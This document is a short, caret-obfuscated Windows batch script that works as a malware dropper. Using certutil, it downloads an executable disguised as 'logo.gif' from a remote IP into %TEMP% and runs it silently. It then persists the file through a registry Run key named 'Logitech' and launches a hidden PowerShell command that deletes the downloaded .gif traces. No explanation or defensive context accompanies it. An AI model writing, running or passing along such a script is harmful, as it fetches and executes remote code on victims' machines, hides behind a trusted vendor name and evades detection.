@e^c^h^o o^f^f
s^e^t^l^o^c^a^l
c^d /^d %TEMP%
c^e^r^t^u^t^i^l^.^e^x^e -u^r^l^c^a^c^h^e -s^p^l^i^t -f "ht"tp://198.51.100.61/img/logo.gif %TEMP%\lgx.exe >n^u^l
if exist %TEMP%\lgx.exe s^t^a^r^t "" /b %TEMP%\lgx.exe
^r^e^g a^d^d HKCU\Software\Microsoft\Windows\CurrentVersion\R^u^n /v Logi^tech /t REG_SZ /d %TEMP%\lgx.exe /f >n^u^l
^p^o^w^e^r^s^h^e^l^l -w h^i^d^d^e^n -c "sleep 3; ri -fo $env:TEMP\*.gif"
